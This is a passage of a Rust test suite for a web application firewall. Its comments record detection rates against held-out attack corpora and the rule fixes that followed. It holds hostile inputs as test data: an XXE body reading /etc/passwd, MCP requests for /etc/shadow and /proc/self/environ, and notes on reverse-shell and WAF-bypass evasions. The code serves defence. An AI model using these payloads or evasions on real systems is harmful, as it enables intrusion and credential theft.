        judge("PROPFIND /index.php HTTP/1.1\r\nHost: cloud\r\nDepth: 1\r\n\r\n"),
        "outside the DAV routes"
    );
    assert!(
        judge("TRACE /remote.php/dav/files/alice/ HTTP/1.1\r\nHost: cloud\r\n\r\n"),
        "TRACE"
    );
    let xxe = "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d:propfind xmlns:d=\"DAV:\"><d:prop>&x;</d:prop></d:propfind>";
    assert!(judge(&format!(
        "PROPFIND /remote.php/dav/files/alice/ HTTP/1.1\r\nHost: cloud\r\nContent-Type: application/xml\r\nContent-Length: {}\r\n\r\n{xxe}",
        xxe.len()
    )), "XXE in a PROPFIND body");
}

/// The AI/ML platform corpus (`scripts/corpus-aiml.py`): OpenAI-style LLM servers and
/// gateways, agents' tool calls, RAG ingestion, vector stores, model serving, MLflow and model
/// hubs. Written without reading the rules (2026-12-05, fourth session).
#[test]
fn aiml_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of 0cb19ae): 260 of 276 attacks blocked (94.2 %), 0 of 511
    // ordinary benign requests, 46 of 68 dev-content (prompts and documents about code).
    // After the class fixes (pickles in uploaded model files and in PyTorch archives, a
    // match-everything `$regex`, line breaks in forwarded header maps, markdown links to
    // script URIs in uploaded files): 269 (let through: `$ne`/`$gt` filters, which query APIs
    // take by design, and fetches of loopback dev ports and cluster-internal services, PL2).
    held_out_floors("aiml", 250, 3, 50, 0);
}

/// The regulated-industries corpus (`scripts/corpus-regulated.py`): FHIR, HL7 v2, DICOMweb,
/// X12 claims, open banking, ISO 20022 and SWIFT, formats full of punctuation. Written without
/// reading the rules (2026-12-05, fourth session).
#[test]
fn regulated_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of b078844): 266 of 277 attacks blocked (96.0 %), 39 of 540
    // ordinary benign requests (7.2 %: X12 and HL7 media types refused, DICOMweb's
    // multipart/related uploads read as one value), 21 of 51 dev-content. After the class
    // fixes (those media types allowed, X12 and HL7 messages read field by field,
    // multipart/related and /mixed parsed without form dispositions, a numeric tautology
    // closing a value): 270 and 0. Let through: `$ne` in a `filter`, LDAP filters a user
    // search takes whole, cluster-internal fetch URLs (PL2), an `Upgrade: h2c` (the proxy
    // removes it before forwarding).
    held_out_floors("regulated", 260, 2, 25, 0);
}

/// Education and science platforms (LMS quizzes and forums, autograders, Jupyter, MediaWiki
/// formulas, BibTeX/RIS imports, SMILES, FASTA, library searches). Written without reading the
/// rules (2026-12-05, fifth session).
#[test]
fn edusci_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of c163c11): 269 of 273 attacks blocked (98.5 %), 22 of 496
    // ordinary benign (4.4 %: MediaWiki `<math>` formulas read as a MathML island, BibTeX and
    // RIS media types refused), 34 of 50 dev-content (code sent to autograders and notebooks).
    // After the class fixes: 269 and 0. Let through: a cluster-internal import URL (PL2), a
    // host without a scheme in nbviewer's path, `$gt: ""` inside a `filter`, `Upgrade: h2c`.
    held_out_floors("edusci", 260, 1, 34, 0);
}

/// Geo, IoT, mobile backends and media (GeoJSON and WKT, CQL filters, LwM2M and MQTT
/// gateways, OTA uploads, push and receipts, HLS/DASH, subtitles, transcoding jobs, game
/// backends). Written without reading the rules (2026-12-05, fifth session).
#[test]
fn geoiot_corpus_floors_at_paranoia_1() {
    // First sight (c163c11): 265 of 271 attacks blocked (97.8 %), 21 of 530 ordinary benign
    // (4.0 %: the CoRE link format, WebVTT and SubRip media types refused; Tasmota's `Backlog`
    // commands; Java exception names in crash reports), 23 of 52 dev-content. After the class
    // fixes: 266 and 4 (the Tasmota command endpoint runs commands by design, and crash
    // reports carry stack traces: both want a route's exclusion). Let through: webhook URLs
    // to cluster-internal services and loopback (PL2), a complete LDAP filter. 2026-12-06
    // (fifth session): java-110 no longer counts class names in stack frames and exception
    // lines (`skip_stack_traces`): the two crash reports pass, 2.
    held_out_floors("geoiot", 260, 0, 20, 2);
}

/// Legacy and enterprise stacks and their messaging (`scripts/corpus-enterprise.py`): SOAP and
/// WS-*, SAP OData and `$batch`, ASP.NET WebForms, JSF, ColdFusion, Siebel, Domino, AS2/EDI with
/// S/MIME, mail and SMS webhooks, CalDAV, reporting and workflow engines. Written without
/// reading the rules (2026-12-05, sixth session).
#[test]
fn enterprise_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of bc5c195): 298 of 314 attacks blocked (94.9 %), 66 of
    // 550 ordinary benign requests (12.0 %), 26 of 50 dev-content. After the class fixes
    // (multipart of every kind parsed and nested changesets read part by part, batch requests
    // judged as requests, MIME transfer encodings undone; JSF's `javax.faces.ViewState`,
    // Siebel's `InvokeMethod`, ASP.NET's `Sort$Column`, `%u` escapes from `escape()`, S/MIME
    // and MDN media types; OData tautologies and key predicates, .NET gadgets in base64,
    // metadata addresses in AS2's callback header): 308, and 17 — ColdFusion's `CFID`/`CFTOKEN`
    // in URLs (9, session fixation's vector, which CRS flags too), CalDAV's methods (7, the
    // WebDAV profile's), a Domino full-text search. Let through: a CSV cell split at its `;`,
    // `;calc.exe` after a format, a Camunda expression, a loopback logo URL (PL2), method
    // overrides (PL2). Later (2026-12-06, second session): `CFID`/`CFTOKEN` count only in a
    // link followed from another site (session-104, CRS 943110's condition), so 8.
    held_out_floors("enterprise", 300, 2, 26, 8);
}

/// Exploits of published CVEs against products run in clusters (Struts, Spring, Log4Shell,
/// Confluence, Jira, GitLab, Jenkins, Exchange, SharePoint, Citrix, F5, Fortinet, Ivanti,
/// WebLogic, Solr, ThinkPHP, Drupal, …) beside those products' ordinary traffic
/// (`scripts/corpus-cves.py`). Written without reading the rules (2026-12-05, sixth session).
#[test]
fn cves_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of bc5c195): 284 of 305 attacks blocked (93.1 %), 13 of
    // 542 ordinary benign requests (2.4 %), 35 of 50 dev-content. After the fixes (a rule for
    // the entry points of the most exploited pre-authentication flaws — Exchange's
    // autodiscover confusion, `.jspa;`, Confluence's setup flag, PaperCut's setup page,
    // PHPUnit's eval-stdin; Jenkins' `@file` arguments, ImageTragick in SVG and PNG text
    // chunks, Derby's `sqlj.install_jar`, SharePoint's ExcelDataSet, Solr's Velocity loader,
    // `_method=__construct`, an over-long Host; SolrJ's and Ansible's User-Agents): 301, and 3
    // (Elasticsearch's SQL API twice, a Grafana SQL macro); after the automation corpus's
    // JSONata fix the Grafana macro passes too: 2. Let through: GitLab's e-mail array, a
    // double-encoded Drupal `#` (PL2), GLPI's htmLawed hook, Nacos's server User-Agent.
    held_out_floors("cves", 300, 4, 35, 2);
}

/// WAF-bypass techniques from published research and tools applied to every class (layers of
/// encoding, look-alikes, comments, shell tricks, parameter pollution, charsets, multipart
/// and framing tricks, long padding), beside benign look-alikes
/// (`scripts/corpus-bypass.py`). Written without reading the rules (2026-12-05, sixth
/// session).
#[test]
fn bypass_corpus_floors_at_paranoia_1() {
    // First sight (rules of 7459e8a): 315 of 326 attacks blocked (96.6 %), 3 of 403 ordinary
    // benign requests, 28 of 40 dev-content. After the fixes (shell and cmd.exe line
    // continuations joined, JNDI lookups in multipart part headers, a body that starts with a
    // request line — CL.0 desync): 318, and the same 3 (a full Windows
    // path as an upload's file name, 900 analytics events over the argument limit, a
    // Shift_JIS form: charsets whose trail bytes overlap ASCII are refused, not transcoded).
    // Let through: empty variables inside words (PL2), cmd's `set`/`call`, a form sent as
    // octet-stream, `Host: localhost`, an IBM037 body (PL2); `Upgrade: h2c` (curl's
    // `--http2` sends it too: the proxy removes the upgrade instead, `forward.upgrades`).
    // Since caught: ASP's `%S%E%L%E%C%T` (2026-12-06, protocol-301) and a forged log record
    // after an encoded CRLF in a Referer (2026-12-06, third session, crlf-160).
    held_out_floors("bypass", 300, 5, 28, 3);
}

/// Fintech (payments, open banking, crypto, insurance, accounting) and social and community
/// applications with international users and text in many scripts
/// (`scripts/corpus-finsocial.py`). Written without reading the rules (2026-12-05, sixth
/// session).
#[test]
fn finsocial_corpus_floors_at_paranoia_1() {
    // First sight (rules of 7459e8a): 263 of 272 attacks blocked (96.7 %), 3 of 520 ordinary
    // benign requests (browsers' CSP violation reports), 38 of 50 dev-content. After the
    // fixes (CSP report fields are no include parameters; scheme-relative URLs in include
    // parameters; a quote and a comment closing a path segment): 265, and none. Let through:
    // cluster-internal fetch URLs (PL2), `{"$or":[{}, …]}` (PL2), mass assignment of plain
    // fields (`role: admin`), which nothing in the request marks.
    held_out_floors("finsocial", 260, 4, 38, 0);
}

/// Advertising, marketing and media platforms: OpenRTB bid requests with HTML and VAST
/// creatives and macros, header bidding, consent strings, postbacks and click trackers, e-mail
/// templates, event batches, DRM and player telemetry (`scripts/corpus-adtech.py`). Written
/// without reading the rules (2026-12-05, sixth session).
#[test]
fn adtech_corpus_floors_at_paranoia_1() {
    // First sight (rules of 3c2f172): 234 of 241 attacks blocked (97.1 %), 15 of 415 ordinary
    // benign requests (AMPscript's `%%[ IF @tier == "Gold" THEN ]%%` read as a batch `IF`;
    // Campaign Manager's tracker URLs ending in `?`), 30 of 40 dev-content. After the fixes
    // (those two, and a `data:text/html` URL right after `<![CDATA[`): 235, and none. Let
    // through: Mongo-style audience filters (query APIs take them by design), an internal
    // postback host (PL2), `func=call_user_func` as a bare value, a CR LF inside a header
    // value (not representable on the wire as one header).
    held_out_floors("adtech", 230, 3, 30, 0);
}

/// Workflow automation, low-code and smart-home platforms (n8n, Node-RED, Home Assistant,
/// Airflow, Temporal, Retool/Appsmith, JSONata, JMESPath, jq, Liquid and Handlebars steps),
/// where expressions and templates are ordinary data (`scripts/corpus-automation.py`). Written
/// without reading the rules (2026-12-05, sixth session).
#[test]
fn automation_corpus_floors_at_paranoia_1() {
    // First sight (rules of 3c2f172): 255 of 258 attacks blocked (98.8 %), 15 of 434 ordinary
    // benign requests (JSONata's `$exists(payload.battery)` and `$sort(orders, function…)` read
    // as PHP variable calls; Appsmith's `{{ Input1.text.trim() }}` as SQL's TRIM), 19 of 40
    // dev-content. After the fixes (a PHP variable call takes a number, string, variable or
    // call, not a bare name and a `.`/`,`; a method call is no SQL built-in): 255, and none.
    // Let through: loopback and cluster-internal fetch URLs (PL2), a CR LF inside a header
    // value.
    held_out_floors("automation", 250, 1, 19, 0);
}

/// International traffic: sites and APIs in a dozen scripts, translation files (XLIFF, gettext,
/// ICU MessageFormat), legacy charsets, look-alike and best-fit characters in attacks
/// (`scripts/corpus-i18n.py`). Written without reading the rules (2026-12-06).
#[test]
fn i18n_corpus_floors_at_paranoia_1() {
    // First sight (rules of 75a2e16): 285 of 295 attacks blocked (96.6 %), 13 of 457 ordinary
    // benign (8 forms and texts declaring Shift_JIS, GBK, GB18030 or Big5; 5 rich texts whose
    // `&amp; more</p>` read as a command and a redirect), 40 of 50 dev-content. After the fixes
    // (those charsets judged as their bytes; `</tag>` is no input redirect; Windows best-fit
    // slashes `∕` `⧸` `∖`; code in a gettext `Plural-Forms`; SSTI in every header): 290, none.
    // Let through: `&lt;script&gt;` inside an uploaded XLIFF file, quotes as `´`, `′` or
    // `%u2019` (best-fit), a full-width `Host`.
    held_out_floors("i18n", 290, 3, 40, 0);
}

/// Query languages sent as data: Elasticsearch DSL and Lucene, Solr, KQL, SPL, LogQL, PromQL,
/// Cypher, Gremlin, SPARQL, GraphQL, OData, JMESPath, Mongo pipelines, InfluxQL, JQL
/// (`scripts/corpus-querylang.py`). Written without reading the rules (2026-12-06).
#[test]
fn querylang_corpus_floors_at_paranoia_1() {
    // First sight (rules of 75a2e16): 293 of 308 attacks blocked (95.1 %), 49 of 456 ordinary
    // benign, 40 of 51 dev-content. After the fixes (breakouts of Gremlin, SPARQL, Cypher,
    // PromQL/LogQL and XPath literals; Solr's replication URL; SPARQL media types; GET with a
    // body to Elasticsearch's search APIs; `java.lang` exception names; GraphQL's `$where`
    // variable; an indented `foaf:name` line; JMESPath's `?starts_with(`): 305, and 28. Those
    // 28 are query endpoints doing their job (19 Mongo pipelines from a BI tool, Cypher
    // procedures, SPARQL and InfluxQL `SELECT`s) and two JQL filters; let through: three
    // scanner probes with ordinary user agents.
    held_out_floors("querylang", 300, 3, 40, 28);
}

/// The WordPress ecosystem on the wire: logins, admin-ajax, the REST API and Gutenberg block
/// markup, the classic editor, comments, XML-RPC, WooCommerce, page builders, forms plugins;
/// attacks modelled on WordPress CVEs and mass exploitation (`scripts/corpus-wordpress.py`).
/// Written without reading the rules (2026-12-06).
#[test]
fn wordpress_corpus_floors_at_paranoia_1() {
    // First sight (rules of the session's second commit): 256 of 281 attacks blocked
    // (91.1 %), 11 of 459 ordinary benign (WPBakery's `onclick="link_image"` shortcode
    // attribute; classic-editor posts with a map `<iframe>`), 40 of 50 dev-content. After the
    // fixes (a quoted handler that is a bare name runs nothing; a `.php` under
    // `wp-content/uploads`; Exim expansions in `Host`; stream wrappers in every header; Twig's
    // `function()`/`constant()`): 260, and 5 (the editor posts: an administrator's
    // `unfiltered_html`, for a route exclusion). Let through: 15 abuses of WordPress's own
    // logic (user enumeration, `role=administrator`, option updates), elFinder's base64
    // targets, two plugin probes with a plain user agent. Later the same day (the media and
    // CMS corpora's fixes): a map's `<iframe>` embed is judged like a document (none of the
    // 459 blocked), a plugin's `readme.txt` probe is caught (261).
    held_out_floors("wordpress", 255, 15, 40, 0);
}

/// Mobile app backends: OkHttp/URLSession/Flutter clients, token flows, push registration,
/// analytics and crash SDK uploads, receipts, chat, GraphQL and gRPC-web
/// (`scripts/corpus-mobile.py`). Written without reading the rules (2026-12-06).
#[test]
fn mobile_corpus_floors_at_paranoia_1() {
    // First sight (rules of the session's second commit): 259 of 282 attacks blocked
    // (91.8 %), 20 of 457 ordinary benign, 29 of 50 dev-content. After the fixes (a JSON Web
    // Token's `kid`, `jku`, `x5u` and embedded symmetric `jwk`; Sentry's `db.sql.query` span
    // is no file; a stack frame's `app.db.Dao.insert(` is no Mongo shell; GraphQL's `$text:
    // String`; `java.util.concurrent` frames; redirect targets written to slip past an
    // allow-list; chunked HTTP/1.0): 272, and 17 — Java stack traces naming
    // `java.lang.Thread`, SQL in Sentry spans (telemetry, for a route exclusion), protobuf
    // sent as a form by Firebase's measurement SDK. Let through: open redirects to a plain
    // host or a look-alike subdomain, mass assignment, a Mongo filter API's `$ne`, a
    // cluster-internal URL (PL2), h2c. 2026-12-06 (fifth session): three crash reports'
    // stack traces pass (java-110's `skip_stack_traces`), 14.
    held_out_floors("mobile", 260, 7, 29, 14);
}

/// Media, streaming and gaming backends: resumable and tus uploads, HLS/DASH manifests and
/// segments, DRM licences, subtitles (WebVTT, SRT, ASS), chat with emotes, leaderboards, game
/// telemetry and save games, ticketing, image-transformation URLs (`scripts/corpus-media.py`).
/// Written without reading the rules (2026-12-06, second session).
#[test]
fn media_corpus_floors_at_paranoia_1() {
    // First sight (rules of 3d334e8): 285 of 294 attacks blocked (96.9 %), 12 of 473
    // ordinary benign, 14 of 50 dev-content. After the fixes (a well-formed request
    // `Content-Range` is a resumable upload's; tus bodies are binary; an ASS override tag is
    // no brace expansion; ffmpeg playlists that read local files or internal URLs; ImageMagick
    // coders as SVG links; URLs in image-proxy paths; SQL break-outs in path segments; a
    // 20-digit Content-Length): 292, and 1 — `while(true) { … }` in a chat message. Let
    // through: an h2c upgrade (the proxy removes it: `forward.upgrades`), an open redirect to a
    // look-alike subdomain.
    held_out_floors("media", 290, 1, 14, 1);
}

/// Non-WordPress CMSes: Drupal (JSON:API, form API, Views AJAX), Joomla, Magento, Strapi,
/// Directus, Ghost, Craft, TYPO3, Umbraco, Sitecore, Shopify app proxies, headless webhooks,
/// editors' HTML with video and map embeds (`scripts/corpus-cms.py`). Written without reading
/// the rules (2026-12-06, second session).
#[test]
fn cms_corpus_floors_at_paranoia_1() {
    // First sight (rules of 3d334e8): 296 of 316 attacks blocked (93.7 %), 2 of 464 ordinary
    // benign (YouTube embeds), 19 of 50 dev-content. After the fixes (a media player's embed
    // code is judged like a document; filters over credential fields; CMS configuration files;
    // extension README probes; Joomla's `public=true`): 304, and none. Let through: open
    // redirects to other hosts (eight: only the application knows its allowed hosts), the
    // second, payload-free stage of Drupalgeddon 2, a GROQ query widened with `||`, a reset
    // poisoned through `X-Forwarded-Host`, mass assignment, a theme edit in Liquid.
    held_out_floors("cms", 310, 11, 19, 0);
}

/// Webmail and groupware: Roundcube, Zimbra, Horde, SOGo, OWA and EWS, JMAP, ActiveSync
/// (WBXML), Sieve filters, CalDAV invites, inbound-mail webhooks, HTML newsletters
/// (`scripts/corpus-webmail.py`). Written without reading the rules (2026-12-06, second
/// session).
#[test]
fn webmail_corpus_floors_at_paranoia_1() {
    // First sight (rules of 55f0391): 262 of 276 attacks blocked (94.9 %), 31 of 448 ordinary
    // benign, 23 of 50 dev-content. After the fixes (WBXML and Office documents are binary
    // bodies; a Sieve script's `require [...]` is no Node bracket access; `application/sieve`;
    // IMAP ACL and ManageSieve commands after a line break; ProxyShell through
    // `Email=`; ProxyLogon's `X-BEResource` cookie; Sprig's `env`/`expandenv`): 267, and 7 —
    // a CalDAV REPORT (the WebDAV profile's), three SES notifications carrying a raw HTML
    // e-mail (a blank line then `<!DOCTYPE`: response splitting's shape), osTicket's API,
    // whose messages are `data:text/html` URLs. Let through: CSS `@import` and attribute
    // selectors in mail (exfiltration, not script), payloads inside MIME encoded-words,
    // quoted-printable and base64url proxy paths, a `Bcc:` line injected into a JSON body
    // sent as SOAP (read raw), a `$ne` in a mail server's search API.
    held_out_floors("webmail", 270, 6, 21, 7);
}

/// Legacy enterprise stacks: ASP.NET WebForms (ViewState, event validation, UpdatePanel),
/// classic ASP, JSF, Struts, ColdFusion, Oracle EBS and APEX, SAP and PeopleSoft portals,
/// Domino, Perl CGI, SharePoint, Dynamics CRM, Windows-1252 forms
/// (`scripts/corpus-legacy.py`). Written without reading the rules (2026-12-06, second
/// session).
#[test]
fn legacy_corpus_floors_at_paranoia_1() {
    // First sight (rules of 55f0391): 271 of 290 attacks blocked (93.4 %), 14 of 474 ordinary
    // benign, 30 of 50 dev-content. After the fixes (IIS short-name enumeration, NTFS
    // streams and `global.asa`/`web.config`, percent signs splitting a word for classic ASP;
    // Struts 1's `org.apache.struts.taglib.html.TOKEN` field is no gadget; ColdFusion's
    // CFID/CFTOKEN count only in a link from another site; an `.aspx` return URL is no
    // remote include; Dynamics' `WhoAmI` request is no command): 279, and 2 — Oracle REST
    // Data Services filters (`q={"salary":{"$gt":4000}}`: MongoDB's operators by design, for
    // the query-endpoints profile). Let through: .NET and Java deserialization inside
    // encrypted, zipped or binary bodies (Telerik, PrimeFaces, Remoting, SAP RECON's base64),
    // archive and template uploads, a WebSphere portal proxy path.
    held_out_floors("legacy", 285, 11, 30, 2);
}

/// Observability and telemetry ingestion: OTLP/HTTP JSON, Zipkin, Jaeger, Loki, Elasticsearch
/// `_bulk`, Splunk HEC, Datadog, New Relic, Honeycomb, InfluxDB line protocol, Pushgateway,
/// Sentry envelopes and other error trackers, browser reports (CSP, NEL, web vitals),
/// analytics beacons, Kubernetes audit, Falco and osquery events, CI job logs, forwarded WAF
/// and IDS alerts, Grafana dashboards and alert rules (`scripts/corpus-telemetry.py`).
/// Written without reading the rules (2026-12-06, third session).
#[test]
fn telemetry_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of 64f867b): 314 of 318 attacks blocked (98.7 %), 225 of
    // 463 ordinary benign (48.6 %: what a receiver is sent by design, SQL in spans, log file
    // paths, stack traces, process command lines; the telemetry profile's business), 22 of
    // 50 dev-content. After the fixes (a bare `Content-Range` of GitLab's job-log uploads;
    // log and data directories named in operations text, such as a Pushgateway label or a
    // PromQL mountpoint, are no inclusion; LDAP filter breakouts in a path segment; a forged
    // log record after a line break in a query argument, crlf-160): all 318, and 202. With
    // the profile see `telemetry_profile_clears_log_shipping`.
    held_out_floors("telemetry", 310, 0, 22, 201);
}

/// Package registries and code hosting: npm, PyPI, Maven, NuGet, RubyGems, crates.io, Go
/// module proxies, OCI registries, Helm, Terraform, Conda, Composer, Artifactory and Nexus,
/// Git smart HTTP, forge APIs and webhooks (`scripts/corpus-registry.py`). Written without
/// reading the rules (2026-12-06, third session).
#[test]
fn registry_corpus_floors_at_paranoia_1() {
    // First sight (rules and engine of 64f867b): 301 of 309 attacks blocked (97.4 %), 47 of
    // 465 ordinary benign (10.1 %), 37 of 50 dev-content. After the fixes (JSON objects with
    // a repeated key, CouchDB's CVE-2017-12635; Go module paths on internal hosts;
    // skipfish's User-Agent; archives and packages judged as binary uploads; a git push's
    // ref names read from its pkt-lines, its packfile as binary; OCI blob uploads' bare
    // `Content-Range`): 305, and 31 — READMEs and descriptions full of code (npm, PyPI) and
    // Artifactory's AQL, for the package-registry profile
    // (`package_registry_profile_opens_readmes_only`). Let through then: an LDAP filter inside
    // `Authorization: Basic`, `../` entries inside a zipped Go module, a method-override
    // header on a GET, a push mirror to `http://localhost:3000/`; 2026-12-06 (fourth session)
    // all but the zip slip are caught (ldapi-102, protocol-215, ssrf-120). 2026-12-07:
    // Python's `print(item.name)` in PyPI READMEs is no PHP call (php-111): 19.
    held_out_floors("registry", 300, 1, 37, 19);
}

#[test]
fn platform_corpus_floors_at_paranoia_1() {
    // Kubernetes platform tools (Backstage, Argo CD and Workflows, Grafana, Prometheus,
    // Alertmanager, Harbor, Keycloak, Vault, Rancher, Kiali, Jaeger, Tekton, Flux, admission
    // webhooks, Velero), written blind on 2026-12-06. First sight with the rules of that
    // session's start (e72960a): 292 of 316 attacks blocked (92.4 %), 85 of 449 ordinary
    // benign (18.9 %), 47 of 50 dev-content; with the session's earlier fixes (written before
    // the corpus was seen) 298 and 90: ssrf-121 took five cluster-internal URLs in objects that
    // configure the cluster (an ingress's `auth-url` annotation, a Helm release's
    // `remoteWrite`), which it now leaves alone: 85. Blocked by design without a profile:
    // workload specs (admission reviews, Velero hooks, Argo Workflows' scripts, `kubectl
    // exec`: `kubernetes_profile_opens_workload_specs_only` takes them to 42), SQL in Grafana
    // dashboards, log lines pushed to Loki. A host under a DNS-rebinding service (ssrf-122)
    // and a management endpoint behind a path parameter (`/actuator;/env`, scanner-150) are
    // refused since: 300.
    held_out_floors("platform", 310, 16, 47, 85);
}

#[test]
fn storage_corpus_floors_at_paranoia_1() {
    // S3-compatible object stores (MinIO, Ceph RGW, SeaweedFS, Garage) and the messaging
    // APIs beside them (Kafka REST, RabbitMQ, NATS, Pulsar, CloudEvents, Dapr, backup tools),
    // written blind on 2026-12-06 (fifth session). First sight with the rules of 86990d1: 321
    // of 329 attacks blocked (97.6 %), 48 of 448 ordinary benign (10.7 %), 32 of 50
    // dev-content. Since: chunk sizes other parsers read differently (`0x1a`, `-1`, an
    // overflow: protocol-attack-040), a shell command in an object key (rce-101, rce-121 read
    // the path) and in a CloudEvents `ce-` header (application data, like `x-`): 327. Left:
    // a modifier-letter apostrophe for a quote in SQL (`ʼ OR 1=1--`) and `{"$ne": null}`
    // (what a query for documents with a field set sends). Blocked by design without the
    // object-storage profile: keys that name dumps, logs and dotfiles (`backups/shop.sql.gz`,
    // `home/eva/.bashrc`), S3 Select's SQL, notification targets inside the cluster
    // (`object_storage_profile_opens_keys_only` takes them to 13); 12 of the rest are one
    // sentence stored in several objects ("…; drop table tennis from the offsite list").
    held_out_floors("storage", 320, 1, 32, 48);
}

#[test]
fn agents_corpus_floors_at_paranoia_1() {
    // AI-agent infrastructure (`scripts/corpus-agents.py`): MCP servers over Streamable HTTP
    // and SSE, A2A, n8n, Flowise, Langflow, Dify, LangServe, code sandboxes, vector stores and
    // tracing, written blind on 2026-12-07. First sight with the rules of 51a972f: 317 of 318
    // attacks blocked, 14 of 409 ordinary benign, 33 of 104 dev-content (a coding agent's
    // shell commands, text-to-SQL). Since: the generic session names (`sessionId`,
    // `session_id`) count only in a link from another site (session-102: the MCP SSE
    // transport's `/messages?sessionId=`, a Jupyter kernel's socket, a chat session), a tooling
    // directory's bare name is not a path (`"excludePatterns": [".git"]`, lfi-230), and `_log`
    // only ends log files' names (`/stream_log` is LangServe's endpoint, lfi-321): 6, all
    // `file:` resource URIs (`mcp_profile_opens_resource_uris_only`); Python's `print(` in a
    // code interpreter's cells is no PHP call (php-111): 31 dev-content. Let through:
    // `{"$ne": …}` in a vector store's metadata filter.
    held_out_floors("agents", 310, 1, 31, 6);
}

/// The MCP profile (`proxy/profiles/mcp-servers.yaml`) lets `file:` resource URIs through on
/// an MCP server's endpoints, and nothing that names a system file or climbs out of a root.
#[test]
fn mcp_profile_opens_resource_uris_only() {
    let cfg = profile("mcp-servers");
    // 2026-12-07: 6 ordinary requests blocked without the profile, 1 with it (a custom
    // scheme's URI on `localhost`, ssrf-104).
    let wrongly = benign_blocked("agents", &cfg, false);
    assert!(wrongly.len() <= 1, "{wrongly:?}");
    assert!(attacks_missed("agents", &cfg) <= 1);
    let read = |uri: &str| {
        serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "resources/read", "params": {"uri": uri}})
            .to_string()
    };
    let judge = |body: &str| blocks(&json_post("/mcp", body), &cfg);
    assert!(!judge(&read("file:///workspace/src/main.rs")));
    assert!(judge(&read("file:///etc/shadow")));
    assert!(judge(&read("file:///workspace/../../proc/self/environ")));
    // In a tool's arguments and on other routes, a `file:` URI is judged as before.
    let fetch = serde_json::json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
        "params": {"name": "fetch", "arguments": {"url": "file:///app/config.yml"}}});
    assert!(judge(&fetch.to_string()));
    assert!(blocks(
        &json_post(
            "/api/import",
            r#"{"params": {"uri": "file:///workspace/x"}}"#
        ),
        &cfg
    ));
}

#[test]
fn recent_corpus_floors_at_paranoia_1() {
    // Exploits published from late 2024 to 2026 (`scripts/corpus-recent.py`): Next.js, Tomcat,
    // SAP NetWeaver, CrushFTP, Craft, Roundcube, Magento, Sitecore, FortiWeb, XWiki, Camel,
    // AEM, Tika, ingress-nginx, n8n, React Server Components, WorstFit, smuggling variants,
    // and the same products' ordinary traffic; written blind on 2026-12-07. First sight with
    // the rules of 51a972f: 250 of 287 attacks blocked, 16 of 508 ordinary benign, 35 of 74
    // dev-content. Since, for the classes: a `Location` request header with a URL (ssrf-123),
    // a session cookie naming a file (`JSESSIONID=.deserialize`, lfi-324), SigV4 without a
    // signature (protocol-attack-241), an encoded `?` after a script's extension
    // (protocol-attack-242), `X-PAN-AUTHCHECK` (protocol-attack-240), Camel's headers in
    // another case (protocol-attack-243), a JNDI lookup in base64 (`Authorization: Basic`,
    // java-153), a long option as a query name (`?--templatesPath=`, php-184), `¥` and `₩` as
    // backslashes (lfi-101), wget's `--use-askpass=` (rce-157), a brace list with a URL piped
    // to `{sh}` (rce-142, rce-122), nginx directives injected into a value (rce-191), chunk
    // lines ended by a bare LF (the `chunk-invalid` anomaly; the proxy forwards what Pingora
    // decoded, re-chunked), a template include of an absolute path (CrushFTP's
    // `{INCLUDE:/…}`, ssti-111), `application/json-rpc` read as JSON (Zabbix) and an image's
    // `redis:1.2.0` no URL (ssrf-101): 269, and 11 ordinary benign (Tomcat's manager and a
    // gateway's actuator, admission reviews of pods with commands). Let through: CitrixBleed
    // 2's bare `login`, CrushFTP's template variables, WordPress sign-ups as administrator,
    // OFBiz and Oracle EBS fetching a definition from a URL, an LDAP filter on a
    // directory-import page.
    held_out_floors("recent", 280, 18, 35, 11);
}

#[test]
fn mutations_corpus_floors_at_paranoia_1() {
    // What a bypass tool does (`scripts/corpus-mutations.py`): about 70 canonical payloads of
    // 13 classes, each with one or two of some 20 evasions (encodings, case, SQL comments and
    // whitespace, concatenation, entities and escapes, full-width forms, path and shell
    // tricks, nested lookups, base64, parameter pollution, multipart quirks), placed in every
    // part of a request; and look-alikes a WAF must let through. Written blind on 2026-12-07.
    // First sight with the rules of 70c2bac: 438 of 450 attacks blocked, 5 of 471 ordinary
    // benign, 36 of 70 dev-content. Since: reverse shells read with the shell's evasions undone
    // (`n\c -e /b??/sh`, and `${IFS}` is a space in the `cmdline` form: rce-130), `${IFS}` in
    // the path (rce-141), commands spelled from variables (`$(a=who;b=ami;$a$b)`, cmd.exe's
    // `call %a%%b%`: rce-140), an odd-encoded IP in a proxy path (ssrf-101), ysoserial's
    // URLDNS probe as a gzip view state (java-152), script markup in a base64 cookie (xss-080),
    // and Python's `print(` no PHP call (php-111): 445; Latin-1's lone `\xA0` as a space in
    // `utf8_normalize` (2026-12-07, later): 446. Let through: a 15-character base64 cookie
    // (under the 16-character run that is decoded), an `FTP://` URL in a cookie, a Windows `t"y"pe` in a Referer, a glob eaten by the query. The ordinary benign
    // requests blocked are a dump's file name, a UNC path, `/.editorconfig` and a value that is
    // a command line.
    held_out_floors("mutations", 440, 4, 34, 5);
}

#[test]
fn webhooks_corpus_floors_at_paranoia_1() {
    // Deliveries from about 60 SaaS senders (`scripts/corpus-webhooks.py`): GitHub, GitLab,
    // Stripe, Shopify, Slack, Twilio, SendGrid, Mailgun, Zendesk, Salesforce, DocuSign, Okta,
    // SNS, Event Grid, Pub/Sub and more, with their signature headers, handshakes and
    // serialisations; forged deliveries and probes as attacks. Written blind on 2026-12-07.
    // First sight with the rules of 70c2bac: 315 of 316 attacks, 1 of 551 ordinary benign, 42
    // of 98 dev-content (diffs, SQL and payloads quoted in security fixes). Since: headers
    // that carry a URL the receiver fetches (`PAYPAL-CERT-URL`, ssrf-100/101/104), and
    // CloudWatch's `ComparisonOperator` is no DynamoDB condition without a DynamoDB operator
    // (nosqli-160/161): 316 and none.
    held_out_floors("webhooks", 310, 0, 42, 0);
}

#[test]
fn dialects_corpus_floors_at_paranoia_1() {
    // The attack classes in each technology's own dialect (`scripts/corpus-dialects.py`): SQL
    // for twelve engines (PostgreSQL to BigQuery, CQL and Spark), twenty template engines,
    // expression languages, native deserialisation formats, seven shells, NoSQL and graph
